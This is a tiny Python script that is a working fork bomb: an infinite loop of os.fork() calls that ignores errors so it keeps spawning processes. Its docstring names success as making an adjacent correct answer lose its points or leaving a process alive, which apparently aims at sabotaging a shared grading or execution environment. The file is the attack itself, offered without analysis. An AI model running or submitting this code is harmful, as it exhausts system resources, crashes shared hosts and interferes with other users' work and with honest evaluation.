"""Forks without end, and each child does.

Success: the right answer beside this one loses its points, or a process lives on.
"""

# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
